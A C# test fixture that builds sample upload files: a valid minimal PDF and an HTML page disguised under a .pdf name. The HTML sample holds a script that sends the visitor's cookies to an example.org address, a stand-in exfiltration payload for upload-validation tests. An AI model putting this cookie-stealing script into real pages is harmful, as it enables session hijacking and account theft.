using System.Globalization;
using System.Text;

namespace Attestation.Web.Tests.Expert;

/// <summary>Files an expert might choose: a real one-page PDF, and a web page saved under a «.pdf» name.</summary>
internal static class SamplePdf
{
    /// <summary>A complete PDF (header, objects, cross-reference table, trailer) that viewers open; ASCII text only.</summary>
    public static byte[] Bytes(string text = "Conclusion")
    {
        var ascii = new string(text.Where(c => c is >= ' ' and < (char)127 and not '(' and not ')' and not '\\').ToArray());
        var stream = $"BT /F1 18 Tf 72 720 Td ({ascii}) Tj ET";
        var objects = new[]
        {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            $"<< /Length {stream.Length} >>\nstream\n{stream}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        };
        var pdf = new StringBuilder("%PDF-1.4\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(pdf.Length);
            pdf.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var xref = pdf.Length;
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
            pdf.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        pdf.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(pdf.ToString());
    }

    /// <summary>A web page: what a «скан.pdf» saved from the browser's «Save as…» really is.</summary>
    public static byte[] Html() => Encoding.UTF8.GetBytes(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Заключение</title></head>"
        + "<body><script>document.location='https://example.org/?c='+document.cookie</script></body></html>");
}
